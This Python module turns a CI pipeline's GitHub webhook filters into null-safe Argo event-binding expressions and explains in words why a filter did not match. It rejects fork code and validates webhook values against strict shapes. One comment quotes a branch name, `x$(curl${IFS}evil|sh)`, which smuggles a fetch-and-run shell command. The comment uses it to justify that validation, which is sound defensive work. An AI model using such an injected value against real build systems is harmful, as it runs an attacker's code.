"""The trigger model: a pipeline's filters as null-safe Argo expressions, and the words for why one did not match.

Argo evaluates every WorkflowEventBinding in the namespace for every delivery, and one expression that fails turns
the delivery into HTTP 500. So every expression written here reads the payload only through `?.` and `??`, the
discriminator is tested first (a delivery to another discriminator stops there), then the event name, then the
filters.

The simulator evaluates exactly these expression strings (delivery.expr), so what it reports cannot drift from
what the bindings do.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from enum import Enum
from typing import Any

from delivery.expr import quote
from delivery.github_events import (
    BRANCH_SOURCES,
    EVENTS_WITHOUT_ACTION,
    EVENTS_WITHOUT_REPOSITORY,
    FORK_EVENTS,
    PULL_REQUEST_EVENTS,
)
from delivery.globs import anchored, glob_to_regexp, list_expression, literal_regexp, parse_glob
from delivery.workflow_names import DELIVERY_GUID, workflow_name_expression
from settings.config import EVENTS_DISCRIMINATOR, PayloadField, Pipeline, RawExpression

LABEL_PREFIX = "argo-github-webhooks"
EVENT_HEADER = 'metadata["x-github-event"]'
DELIVERY_HEADER = 'metadata["x-github-delivery"]'

_LABEL_VALUE = r"^[A-Za-z0-9]([A-Za-z0-9._-]{0,61}[A-Za-z0-9])?$"


class ConditionKind(Enum):
    DISCRIMINATOR = "discriminator"
    EVENT = "event"
    NOT_DELETED = "not_deleted"
    BRANCH = "branch"
    ACTION = "action"
    REPOSITORY = "repository"
    SAME_REPOSITORY = "same_repository"
    WORKFLOW_RUN_SAME_REPOSITORY = "workflow_run_same_repository"
    CHECK_HEAD_IN_REPOSITORY = "check_head_in_repository"
    NOT_PULL_REQUEST_COMMENT = "not_pull_request_comment"
    ORGANIZATION = "organization"
    PATHS = "paths"


@dataclass(frozen=True)
class Condition:
    """One test of a selector: `expression` is the boolean Argo evaluates; `subject` the value it looks at."""

    kind: ConditionKind
    expression: str
    subject: str
    allowed: tuple[str, ...]
    filters: tuple[tuple[str, tuple[str, ...]], ...] = ()  # the pattern lists tested, by key ("branches-ignore")


@dataclass(frozen=True)
class EventClause:
    """The tests for one event: the event name first, then the filters that apply to that event."""

    event: str
    conditions: tuple[Condition, ...]

    @property
    def expression(self) -> str:
        return " && ".join(condition.expression for condition in self.conditions)


@dataclass(frozen=True)
class Trigger:
    """A pipeline's complete selector: discriminator, then one clause per event."""

    discriminator: Condition
    clauses: tuple[EventClause, ...]

    @property
    def events(self) -> tuple[str, ...]:
        return tuple(clause.event for clause in self.clauses)

    @property
    def selector(self) -> str:
        clauses = [clause.expression for clause in self.clauses]
        either = clauses[0] if len(clauses) == 1 else " || ".join(f"({clause})" for clause in clauses)
        return f"{self.discriminator.expression} && ({either})"


def payload_path(path: Sequence[str]) -> str:
    """A null-safe read of a payload field: missing objects give nil instead of an error."""
    return "payload" + "".join(f"?.{segment}" for segment in path)


def _string_at(path: Sequence[str]) -> str:
    return f'({payload_path(path)} ?? "")'


def _header(header: str) -> str:
    """The first value of an `X-` header; headers arrive as lists of strings, absent ones as nil."""
    return f'({header} ?? [""])[0]'


def _event_condition(event: str) -> Condition:
    return Condition(ConditionKind.EVENT, f"{EVENT_HEADER} == [{quote(event)}]", _header(EVENT_HEADER), (event,))


def _clause(pipeline: Pipeline, event: str) -> EventClause:
    conditions = [_event_condition(event)]
    if event == "push":
        conditions.append(Condition(ConditionKind.NOT_DELETED, "payload?.deleted != true", _string_at(("ref",)), ()))
    if event in BRANCH_SOURCES and (branch := _ref_condition(pipeline, event)):
        conditions.append(branch)
    if pipeline.actions and event not in EVENTS_WITHOUT_ACTION:
        subject = _string_at(("action",))
        allowed = ", ".join(quote(action) for action in pipeline.actions)
        conditions.append(Condition(ConditionKind.ACTION, f"{subject} in [{allowed}]", subject, pipeline.actions))
    if pipeline.repositories and event not in EVENTS_WITHOUT_REPOSITORY:
        conditions.append(_repository_condition(pipeline.repositories))
    if pipeline.organizations:
        conditions.append(_organization_condition(pipeline.organizations))
    if event in FORK_EVENTS and not pipeline.forks:
        conditions.append(_own_code_condition(event))
    if event == "push" and (pipeline.paths or pipeline.paths_ignore):
        conditions.append(_push_paths_condition(pipeline))  # last: the one test that walks the commits
    return EventClause(event, tuple(conditions))


def _own_code_condition(event: str) -> Condition:
    """The delivery names code of the repository itself, not of a fork (which runs its author's code). Every missing
    field counts as a fork."""
    if event in PULL_REQUEST_EVENTS:
        return _same_repository_condition()
    if event == "workflow_run":
        head = payload_path(("workflow_run", "head_repository", "id"))
        return Condition(
            ConditionKind.WORKFLOW_RUN_SAME_REPOSITORY,
            f"({head} ?? -1) == ({payload_path(('repository', 'id'))} ?? -2)",
            _string_at(("workflow_run", "head_repository", "full_name")),
            (),
        )
    if event in ("check_suite", "check_run"):
        # GitHub: "When the check suite's head_branch is in a forked repository it will be null and the
        # pull_requests array will be empty" (the check run carries its suite).
        suite = ("check_suite",) if event == "check_suite" else ("check_run", "check_suite")
        return Condition(
            ConditionKind.CHECK_HEAD_IN_REPOSITORY,
            f"{payload_path((*suite, 'head_branch'))} != nil",
            _string_at((*suite, "head_sha")),
            (event,),
        )
    if event == "issue_comment":
        # The payload does not say whose code the pull request's head is: a comment on one counts as a fork's.
        return Condition(
            ConditionKind.NOT_PULL_REQUEST_COMMENT,
            f"{payload_path(('issue', 'pull_request'))} == nil",
            _string_at(("issue", "html_url")),
            (),
        )
    raise KeyError(event)


def _ref_filters(pipeline: Pipeline, event: str) -> tuple[tuple[str, tuple[str, ...]], ...]:
    """The ref pattern lists that apply to `event`, by key: tags only ever filter pushes."""
    lists = {"branches": pipeline.branches, "branches-ignore": pipeline.branches_ignore}
    if event == "push":
        lists.update({"tags": pipeline.tags, "tags-ignore": pipeline.tags_ignore})
    return tuple((key, patterns) for key, patterns in lists.items() if patterns)


def _one_kind(subject: str, patterns: tuple[str, ...], ignored: tuple[str, ...], prefix: str) -> str | None:
    """Whether `subject` passes a ref filter of one kind (branches or tags): `patterns` read in order, or not one
    of `ignored`; None without a filter. With a prefix, refs of the other kind never pass."""
    if patterns:
        return list_expression(subject, [parse_glob(pattern) for pattern in patterns], prefix)
    if not ignored:
        return None
    regexp = anchored([glob_to_regexp(pattern) for pattern in ignored], prefix)
    if not prefix:
        return f"!({subject} matches {quote(regexp)})"
    return f"({subject} startsWith {quote(prefix)} && !({subject} matches {quote(regexp)}))"


def _ref_condition(pipeline: Pipeline, event: str) -> Condition | None:
    """As GitHub Actions: a push with only branch filters never runs for tags, one with only tag filters never for
    branches, one with both runs when the filter of its ref's kind passes; pull requests test their base branch."""
    source = BRANCH_SOURCES[event]
    subject = _string_at(source.path)
    filters = _ref_filters(pipeline, event)
    if not filters:
        return None
    tests = [_one_kind(subject, pipeline.branches, pipeline.branches_ignore, source.prefix)]
    if event == "push":
        tests.append(_one_kind(subject, pipeline.tags, pipeline.tags_ignore, "refs/tags/"))
    present = [test for test in tests if test is not None]
    expression = present[0] if len(present) == 1 else "(" + " || ".join(present) + ")"
    allowed = tuple(pattern for _, patterns in filters for pattern in patterns)
    return Condition(ConditionKind.BRANCH, expression, subject, allowed, filters)


# GitHub's push payloads list at most this many commits (webhook reference, push, `commits`); a push listing that
# many may have more, whose files the payload does not carry.
MAX_PAYLOAD_COMMITS = 2048


def _push_paths_condition(pipeline: Pipeline) -> Condition:
    """Whether a push changes a file the path filter wants, from its commits' added, modified and removed lists.

    It passes when the payload cannot tell, as Actions runs when it cannot compute a diff: a tag push (Actions does
    not evaluate path filters for tags), a force push (the payload lists the new commits, not the two-dot diff
    before..after), no commits listed (a new branch at an existing commit), or as many commits as GitHub lists at
    most. A push whose commits change no file does not pass.
    """
    if pipeline.paths:
        key, patterns = "paths", pipeline.paths
        wanted = list_expression("#", [parse_glob(pattern) for pattern in patterns])
    else:
        key, patterns = "paths-ignore", pipeline.paths_ignore
        wanted = f"!(# matches {quote(anchored([glob_to_regexp(pattern) for pattern in patterns]))})"
    commits = '(payload?.commits ?? [])'
    changed = " || ".join(f"any(#?.{change} ?? [], {wanted})" for change in ("added", "modified", "removed"))
    expression = (
        f'({_string_at(("ref",))} startsWith "refs/tags/" || payload?.forced == true || len({commits}) == 0'
        f" || len({commits}) >= {MAX_PAYLOAD_COMMITS} || any({commits}, {changed}))"
    )
    return Condition(ConditionKind.PATHS, expression, commits, patterns, ((key, patterns),))


def push_paths_unknown(payload: Mapping[str, Any]) -> str | None:
    """Why the push payload cannot tell which files changed (the path filter then passes), or None if it can."""
    commits = payload.get("commits")
    if str(payload.get("ref", "")).startswith("refs/tags/"):
        return "a tag push: GitHub Actions does not evaluate path filters for tags either"
    if payload.get("forced") is True:
        return (
            "a force push: the payload lists the commits pushed, not the files of the two-dot diff before..after, "
            "so it runs"
        )
    if not isinstance(commits, list) or not commits:
        return "the payload lists no commits (e.g. a new branch at an existing commit), so it runs"
    if len(commits) >= MAX_PAYLOAD_COMMITS:
        return f"the payload lists {len(commits)} commits, the most GitHub lists: there may be more, so it runs"
    return None


def changed_files(commits: Any) -> list[str]:
    """The files a push payload's commits add, modify or remove, each once, in order."""
    files: dict[str, None] = {}
    for commit in commits if isinstance(commits, list) else []:
        for change in ("added", "modified", "removed"):
            listed = commit.get(change) if isinstance(commit, dict) else None
            files.update(dict.fromkeys(str(name) for name in listed or []))
    return list(files)


def _organization_condition(organizations: Sequence[str]) -> Condition:
    """Every organization webhook's payload carries `organization`; GitHub logins are case-insensitive."""
    subject = _string_at(("organization", "login"))
    regexp = anchored([literal_regexp(login) for login in organizations], flags="(?i)")
    return Condition(ConditionKind.ORGANIZATION, f"{subject} matches {quote(regexp)}", subject, tuple(organizations))


def _same_repository_condition() -> Condition:
    """A pull request from a fork runs its author's code: only when its head repository IS the base repository.

    Repository ids, not names: a rename or a case difference cannot fool it; a deleted fork (`head.repo: null`) or
    any missing field counts as a fork.
    """
    head = payload_path(("pull_request", "head", "repo", "id"))
    base = payload_path(("pull_request", "base", "repo", "id"))
    return Condition(
        ConditionKind.SAME_REPOSITORY,
        f"({head} ?? -1) == ({base} ?? -2)",
        _string_at(("pull_request", "head", "repo", "full_name")),
        (),
    )


def _repository_condition(repositories: Sequence[str]) -> Condition:
    """`name` matches repository.name, `owner/name` repository.full_name; GitHub names are case-insensitive."""
    names = [literal_regexp(repository) for repository in repositories if "/" not in repository]
    full_names = [literal_regexp(repository) for repository in repositories if "/" in repository]
    tests = []
    if names:
        tests.append(f"{_string_at(('repository', 'name'))} matches {quote(anchored(names, flags='(?i)'))}")
    if full_names:
        tests.append(f"{_string_at(('repository', 'full_name'))} matches {quote(anchored(full_names, flags='(?i)'))}")
    expression = tests[0] if len(tests) == 1 else f"({' || '.join(tests)})"
    return Condition(ConditionKind.REPOSITORY, expression, _string_at(("repository", "full_name")), tuple(repositories))


def compile_trigger(pipeline: Pipeline) -> Trigger:
    """The pipeline's filters as conditions, behind the stack's one discriminator (every hook posts there)."""
    discriminator = Condition(
        ConditionKind.DISCRIMINATOR,
        f"discriminator == {quote(EVENTS_DISCRIMINATOR)}",
        "discriminator",
        (EVENTS_DISCRIMINATOR,),
    )
    return Trigger(discriminator, tuple(_clause(pipeline, event) for event in pipeline.events))


def _by_event(events: Sequence[str], per_event: Mapping[str, str]) -> str:
    """One expression choosing by the event header among the pipeline's events; "" for events without a source."""
    cases = [(event, per_event[event]) for event in events if event in per_event]
    if not cases:
        return '""'
    if len(cases) == len(events) and len({value for _, value in cases}) == 1:
        return cases[0][1]  # every event reads the same field: no need to ask which event it is
    expression = '""'
    for event, value in reversed(cases):
        expression = f"({_event_condition(event).expression} ? {value} : {expression})"
    return expression


def _pull_request_ref() -> str:
    # int(): payload numbers are floats, and string() of a float >= 1e6 would be written 1.234567e+06.
    number = "string(int(payload.pull_request.number))"
    return f'payload?.pull_request?.number != nil ? "refs/pull/" + {number} + "/head" : ""'


def _release_ref() -> str:
    return 'payload?.release?.tag_name != nil ? "refs/tags/" + string(payload.release.tag_name) : ""'


# The shape each well-known value has when GitHub sends it; anything else (a forged or odd payload) gives "".
# git_ref also refuses the characters a shell treats specially, though git allows them in branch names
# (`x$(curl${IFS}evil|sh)` is a valid branch): a template that misuses it then gets "", not the attacker's text.
WELL_KNOWN_SHAPES = {
    "git_url": r"^https://[A-Za-z0-9][A-Za-z0-9.-]*(:[0-9]{1,5})?/[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+\.git$",
    "git_ref": r"^refs/(heads|tags|pull)/([A-Za-z0-9_+,=@%-][A-Za-z0-9._+,=@%-]*/)*"
    r"[A-Za-z0-9_+,=@%-]([A-Za-z0-9._+,=@%-]*[A-Za-z0-9_+,=@%-])?$",
    "head_commit": r"^[0-9a-f]{40}$",
    "repository": r"^[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+$",
    "event": r"^[a-z_]{1,64}$",
    "delivery_id": DELIVERY_GUID,  # as GitHub sends it, and as the run's name takes it: one shape for both
    "base_commit": r"^[0-9a-f]{40}$",  # forty zeros for a push that creates its ref
    "default_branch": r"^([A-Za-z0-9_+,=@%-][A-Za-z0-9._+,=@%-]*/)*"
    r"[A-Za-z0-9_+,=@%-]([A-Za-z0-9._+,=@%-]*[A-Za-z0-9_+,=@%-])?$",  # a branch name of git_ref's characters
}


def well_known_expression(name: str, events: Sequence[str]) -> str:
    """The expression that fills a well-known parameter for a pipeline listening to `events`: "" unless the value
    has the shape GitHub gives it (WELL_KNOWN_SHAPES)."""
    value = _well_known_source(name, events)
    if value == '""':
        return value
    # string(): a forged number or object must not fail the match (one failing binding fails every delivery).
    return f'(string({value}) matches {quote(WELL_KNOWN_SHAPES[name])} ? {value} : "")'


def _well_known_source(name: str, events: Sequence[str]) -> str:
    if name == "git_url":
        return _string_at(("repository", "clone_url"))
    if name == "repository":
        return _string_at(("repository", "full_name"))
    if name == "event":
        return _header(EVENT_HEADER)
    if name == "delivery_id":
        return _header(DELIVERY_HEADER)
    if name == "git_ref":
        per_event = {"push": _string_at(("ref",)), "release": f"({_release_ref()})"}
        per_event.update({event: f"({_pull_request_ref()})" for event in PULL_REQUEST_EVENTS})
        return _by_event(events, per_event)
    if name == "head_commit":
        per_event = {"push": _string_at(("after",))}
        per_event.update({event: _string_at(("pull_request", "head", "sha")) for event in PULL_REQUEST_EVENTS})
        return _by_event(events, per_event)
    if name == "base_commit":
        per_event = {"push": _string_at(("before",))}
        per_event.update({event: _string_at(("pull_request", "base", "sha")) for event in PULL_REQUEST_EVENTS})
        return _by_event(events, per_event)
    if name == "default_branch":
        return _string_at(("repository", "default_branch"))
    raise KeyError(name)


def compile_parameters(pipeline: Pipeline) -> dict[str, str]:
    """Every parameter the binding passes: the pipeline's mappings, then the well-known ones it declares."""
    parameters: dict[str, str] = {}
    for name, source in pipeline.parameters.items():
        if isinstance(source, PayloadField):
            parameters[name] = _string_at(source.path)
        elif isinstance(source, RawExpression):
            parameters[name] = source.expression
    for name in pipeline.well_known_parameters:
        parameters[name] = well_known_expression(name, pipeline.events)
    return parameters


def _guarded_label(value: str, shape: str = _LABEL_VALUE) -> str:
    """A label value taken from the delivery, or "" when it is not a valid label value (a bad one fails the submit);
    `shape` narrows it further (the delivery header: a GUID as GitHub sends it)."""
    return f'({value} matches {quote(shape)} ? {value} : "")'


def workflow_metadata(pipeline: Pipeline) -> dict[str, Any]:
    """Name, labels and annotations of each submitted Workflow (Argo evaluates each value as an expression)."""
    return {
        "name": workflow_name_expression(pipeline.name, _header(DELIVERY_HEADER)),
        "labels": {
            f"{LABEL_PREFIX}/pipeline": quote(pipeline.name),
            f"{LABEL_PREFIX}/event": _guarded_label(_header(EVENT_HEADER)),
            f"{LABEL_PREFIX}/delivery": _guarded_label(_header(DELIVERY_HEADER), DELIVERY_GUID),
            f"{LABEL_PREFIX}/owner": _guarded_label(_string_at(("repository", "owner", "login"))),
            f"{LABEL_PREFIX}/repository": _guarded_label(_string_at(("repository", "name"))),
        },
        "annotations": {
            # Not covered by GitHub's signature, and templates read it: a GUID like the name and the label, or "".
            f"{LABEL_PREFIX}/delivery": _guarded_label(_header(DELIVERY_HEADER), DELIVERY_GUID),
            f"{LABEL_PREFIX}/event": _header(EVENT_HEADER),
            f"{LABEL_PREFIX}/repository": _string_at(("repository", "full_name")),
        },
    }


def failure_reason(condition: Condition, subject: object, trigger: Trigger) -> str:
    """Why `condition` did not hold, in words, given the value it tested."""
    allowed = ", ".join(condition.allowed)
    if condition.kind is ConditionKind.DISCRIMINATOR:
        return f"delivered to events/<namespace>/{subject}, the stack's webhooks post to .../{allowed}"
    if condition.kind is ConditionKind.EVENT:
        return f"event is {subject or '(none)'}, pipeline listens to {', '.join(trigger.events)}"
    if condition.kind is ConditionKind.NOT_DELETED:
        return f"push deleted {subject or 'a ref'} (deleted: true): nothing to check out"
    if condition.kind is ConditionKind.BRANCH:
        return _ref_failure(str(subject), dict(condition.filters))
    if condition.kind is ConditionKind.PATHS:
        return _paths_failure(changed_files(subject), dict(condition.filters))
    if condition.kind is ConditionKind.ACTION:
        return f"action {subject or '(none)'} not in {allowed}"
    if condition.kind is ConditionKind.SAME_REPOSITORY:
        head = subject or "a deleted or unknown repository"
        return f"pull request from the fork {head}: forks run their author's code, opt in with forks: true"
    if condition.kind is ConditionKind.WORKFLOW_RUN_SAME_REPOSITORY:
        head = subject or "a deleted or unknown repository"
        return f"workflow run on code from the fork {head}: forks run their author's code, opt in with forks: true"
    if condition.kind is ConditionKind.CHECK_HEAD_IN_REPOSITORY:
        what = "check suite" if condition.allowed == ("check_suite",) else "check run"
        return (
            f"{what} on {subject or 'a commit'} whose head branch is not in the repository (GitHub gives no "
            "head_branch for a fork's): forks run their author's code, opt in with forks: true"
        )
    if condition.kind is ConditionKind.NOT_PULL_REQUEST_COMMENT:
        return (
            f"comment on the pull request {subject or '(unknown)'}: the payload does not say whether its head is a "
            "fork, and forks run their author's code; opt in with forks: true"
        )
    if condition.kind is ConditionKind.ORGANIZATION:
        return f"organization {subject or '(none)'} not in {allowed}"
    return f"repository {subject or '(none)'} not in {allowed}"


def _ref_failure(ref: str, filters: Mapping[str, tuple[str, ...]]) -> str:
    branch_keys = [key for key in ("branches", "branches-ignore") if key in filters]
    tag_keys = [key for key in ("tags", "tags-ignore") if key in filters]
    if ref.startswith("refs/tags/"):
        if not tag_keys:
            return f"{ref} is a tag, not a branch; branch filter is {_describe(filters, branch_keys)}"
        return _not_matching("tag", ref.removeprefix("refs/tags/"), filters, tag_keys[0])
    if not branch_keys:
        return f"{ref or '(none)'} is not a tag; tag filter is {_describe(filters, tag_keys)}"
    return _not_matching("branch", ref.removeprefix("refs/heads/"), filters, branch_keys[0])


def _describe(filters: Mapping[str, tuple[str, ...]], keys: list[str]) -> str:
    return "; ".join(
        ", ".join(filters[key]) if not key.endswith("-ignore") else f"{key}: {', '.join(filters[key])}" for key in keys
    )


def _not_matching(kind: str, name: str, filters: Mapping[str, tuple[str, ...]], key: str) -> str:
    if key.endswith("-ignore"):
        return f"{kind} {name or '(none)'} is ignored ({key}: {', '.join(filters[key])})"
    return f"{kind} {name or '(none)'} does not match {', '.join(filters[key])}"


def _paths_failure(files: list[str], filters: Mapping[str, tuple[str, ...]]) -> str:
    if not files:
        return "the push changes no file (its commits add, modify and remove none): a path filter needs one"
    shown = ", ".join(files[:5]) + (f" and {len(files) - 5} more" if len(files) > 5 else "")
    key, patterns = next(iter(filters.items()))
    if key == "paths-ignore":
        return f"every changed file ({shown}) is ignored (paths-ignore: {', '.join(patterns)})"
    return f"no changed file ({shown}) matches paths {', '.join(patterns)}"
